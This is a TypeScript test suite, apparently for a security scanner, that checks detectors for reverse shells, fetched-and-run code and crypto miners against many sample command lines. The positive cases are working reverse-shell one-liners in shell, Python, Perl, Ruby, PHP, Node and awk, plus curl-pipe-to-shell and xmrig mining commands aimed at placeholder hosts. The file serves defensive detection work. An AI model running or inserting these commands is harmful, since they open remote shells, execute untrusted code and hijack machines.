/** Command lines that give a shell away or run what they fetch, and the everyday ones that only look so. */
import { fetchedCodeIn, minerIn, readCommandText, reverseShellIn } from '@arrivals/core/internal';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { SEED } from '../../samples.ts';
import { LISTS } from '../risks.ts';

describe('a reverse shell', () => {
  for (const line of [
    'nc -e /bin/sh 192.0.2.1 4444',
    'nc 192.0.2.1 4444 -e /bin/bash',
    'nc -nve /bin/sh 192.0.2.1 4444',
    '/bin/sh -c -- ncat --ssl $HOST $PORT -e /bin/bash;',
    'ncat --ssl ${HOST} ${PORT:-443} --exec "/bin/bash"',
    'ncat $(HOST) $(PORT) --sh-exec sh',
    'ncat -c /bin/bash 192.0.2.1 4444',
    '/usr/local/bin/ncat --ssl h 1 -e /bin/nsenter --target 1 --mount -- /bin/bash',
    'busybox nc 192.0.2.1 4444 -e sh',
    'n\\c -e /bin/sh 192.0.2.1 4444',
    'nc${IFS}-e${IFS}/bin/sh${IFS}192.0.2.1${IFS}4444',
    'while true; do nc -e /bin/sh 192.0.2.1 4444; sleep 5; done',
    'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 >/tmp/f',
    'nc 192.0.2.1 4444 | sh',
    'telnet 192.0.2.1 4444 | /bin/bash | telnet 192.0.2.1 4445',
    'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 > /tmp/s',
    'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
    "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
    'sh -i >& /dev/udp/192.0.2.1/53 0>&1',
    'exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done',
    '0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196',
    'socat TCP:192.0.2.1:4444 EXEC:/bin/sh,pty,stderr',
    'socat exec:bash tcp:192.0.2.1:4444',
    `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh"])'`,
    `python -c 'import pty,socket;s=socket.create_connection(("h",1));pty.spawn("sh")'`,
    `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$p);open(STDIN,">&S");exec("/bin/sh -i");'`,
    `ruby -rsocket -e 'f=TCPSocket.open("h",1).to_i;exec sprintf("sh -i <&%d",f)'`,
    `php -r '$s=fsockopen("h",1);exec("sh <&3");'`,
    `node -e 'var n=require("net"),p=require("child_process").spawn("/bin/sh");var c=new n.Socket();c.connect(1,"h")'`,
    `awk 'BEGIN{s="/inet/tcp/0/h/1";while(1){s|&getline c;while((c|&getline)>0)print|&s}}'`,
  ])
    it(line, () => {
      assert.notEqual(reverseShellIn(readCommandText(line)), undefined);
    });
});

describe('no reverse shell', () => {
  for (const line of [
    '',
    'sleep 1d',
    'nc -z db 5432',
    'nc -zv -w 2 db 5432',
    'sh -c until nc -z db 5432; do echo waiting; sleep 1; done',
    'echo ruok | nc localhost 2181 | grep imok',
    'sh -c "echo ruok | nc localhost 2181"',
    'nc -lk -p 8080',
    'nc -c db 5432',
    'sh -c "nc -z db 1 && exec java -e prod -jar app.jar"',
    'bash -c "</dev/tcp/db/5432"',
    "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/$HOST/$PORT'",
    "timeout $WAIT bash -c 'cat < /dev/null > /dev/tcp/$HOST/$PORT'",
    'bash -c \'exec 3<>/dev/tcp/127.0.0.1/9000; echo -e "GET /health/ready HTTP/1.1\\r\\n" >&3; cat <&3 | grep UP\'',
    "sh -c 'echo > /dev/tcp/db/5432 2>&1 || echo not ready >&2'",
    'socat TCP-LISTEN:8080,fork TCP:web:80',
    'python3 -m http.server',
    `python3 -c 'import socket;socket.create_connection(("db",5432))'`,
    'perl app.pl --socket /run/app.sock',
    'openssl s_client -connect web:443 -brief',
    'telnet db 5432',
    'npm exec -e sh',
    'function -e nc',
  ])
    it(JSON.stringify(line), () => {
      assert.equal(reverseShellIn(readCommandText(line)), undefined);
    });
});

describe('code that is fetched and run', () => {
  for (const line of [
    'curl http://drop.example/x.sh | sh',
    'curl -fsSL http://drop.example/x.sh | bash -s -- --now',
    'sh -c "curl -s http://drop.example/x | bash > /dev/null 2>&1"',
    '(curl -s http://drop.example/x || wget -qO- http://drop.example/x) | sh',
    'wget -qO- http://drop.example/x | sudo -u root bash',
    'wget -O - http://drop.example/x | tee /tmp/x | sh',
    '/usr/bin/curl http://drop.example/x.py | python3',
    'curl http://drop.example/x.py | python3 -',
    'bash <(curl -s http://drop.example/x)',
    'bash -c "$(curl -fsSL http://drop.example/x)"',
    'sh -c "`wget -qO- http://drop.example/x`"',
    'eval $(curl -s http://drop.example/x)',
    'curl http://drop.example/x | xargs sh',
    'c\\url http://drop.example/x | ba\\sh',
    'curl${IFS}http://drop.example/x|sh',
    'curl -o /tmp/x http://drop.example/a && chmod +x /tmp/x && /tmp/x',
    'wget http://drop.example/a/miner; chmod 755 miner',
    'wget http://drop.example/run.sh?v=1; sh run.sh',
    'curl -LO http://drop.example/tool; ./tool',
    'echo ZWNobw== | base64 -d | bash',
    'base64 --decode /tmp/x | sh',
    `python3 -c 'from urllib.request import urlopen; exec(urlopen("http://drop.example").read())'`,
  ])
    it(line, () => {
      assert.notEqual(fetchedCodeIn(readCommandText(line)), undefined);
    });

  it('is reported with the host that it comes from, and without what else the line holds', () => {
    assert.deepEqual(
      fetchedCodeIn(
        readCommandText('curl -u me:hunter2 https://user:pass@Drop.example:8443/x?token=abc | bash'),
      ),
      {
        phrase: 'curl piped into bash',
        from: 'drop.example',
      },
    );
    assert.equal(
      fetchedCodeIn(readCommandText('curl https://me:hunter2/x@drop.example/y | bash'))?.from,
      undefined,
    );
  });
});

describe('no code that is fetched and run', () => {
  for (const line of [
    'curl -fsS http://localhost:8080/healthz',
    'curl -s http://api.example/items | python3 -m json.tool',
    `curl -s http://api.example/items | python3 -c 'import sys,json;print(json.load(sys.stdin))'`,
    'curl -s http://api.example/items | jq .',
    'curl -s http://api.example/run.sh | grep bash',
    'wget -O /plugins/a.jar http://repo.example/a.jar && java -jar /app/b.jar',
    'wget http://repo.example/a.tgz && tar xzf a.tgz',
    'chmod +x /entrypoint.sh && /entrypoint.sh',
    'wget http://repo.example/a.conf; chmod 644 a.conf',
    'curl http://repo.example/a -o /tmp/a; chmod +x /tmp/b',
    'base64 -d /etc/cert.b64 > /tmp/cert',
    'echo x | base64 | sh_escape',
    'sh -c "curl http://x.example | tee out" ; bash run.sh',
  ])
    it(line, () => {
      assert.equal(fetchedCodeIn(readCommandText(line)), undefined);
    });
});

describe('mining', () => {
  const wallet = `4${'A'.repeat(94)}`;
  for (const [line, what] of [
    ['./xmrig -o pool.example:3333', 'the miner xmrig'],
    ['/tmp/xmrig-6.21.0 --config x', 'the miner xmrig'],
    ['xmrig_amd64', 'the miner xmrig'],
    ['run --pool stratum+tcp://anything.example:8080', 'a pool’s protocol, stratum'],
    ['run STRATUM2+SSL://anything.example:1', 'a pool’s protocol, stratum'],
    ['run --url=xmr-eu1.nanopool.org:14433', 'the pool nanopool.org'],
    ['curl https://pool.minexmr.com/stats', 'the pool minexmr.com'],
    ['run POOL.SUPPORTXMR.COM:443', 'the pool supportxmr.com'],
    ['kworker --donate-level 1', 'a miner’s option --donate-level'],
    ['kworker --donate-level=1', 'a miner’s option --donate-level'],
    [`kworker -u ${wallet}`, 'a Monero wallet'],
    [`kworker -u ${wallet}.worker1`, 'a Monero wallet'],
    ['kworker -o 192.0.2.1:14444', 'a pool at the miners’ port 14444'],
    ['kworker --url=host:3333', 'a pool at the miners’ port 3333'],
  ] as const)
    it(`is in ${line.slice(0, 60)}`, () => {
      assert.equal(minerIn(line, LISTS), what);
    });

  for (const line of [
    '',
    'serve --port 3333',
    'proxy db:3333',
    'serve --url http://db:3333',
    'curl -o out.json http://db:8080',
    'app --url=db:8080',
    'app --server=nats:4222',
    'xmrigger',
    'cat xmrig2',
    'echo notnanopool.org nanopool.org.example',
    `sha ${'4A'.repeat(60)}`,
    `key ${wallet}AAAA`,
    '--donate-levels',
  ])
    it(`is not in ${JSON.stringify(line.slice(0, 60))}`, () => {
      assert.equal(minerIn(line, LISTS), undefined);
    });
});

describe('a command line of any kind', () => {
  it('is read without failing', () => {
    const part = fc.constantFrom(
      ...[
        '$(',
        '`',
        '|',
        '||',
        '&&',
        '>&',
        '2>&1',
        '(',
        ')',
        '{',
        '}',
        '${',
        '"',
        "'",
        '\\',
        '\n',
        ';',
        'nc',
        '-e',
        'sh',
        'curl',
        ' ',
        '/dev/tcp/',
        '=',
        '\ud800',
        '-',
      ],
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.array(part, { maxLength: 40 }).map((parts) => parts.join('')),
          fc.string({ unit: 'binary' }),
        ),
        (line) => {
          reverseShellIn(readCommandText(line));
          fetchedCodeIn(readCommandText(line));
          minerIn(line, LISTS);
        },
      ),
      { seed: SEED, numRuns: 2000 },
    );
  });
});
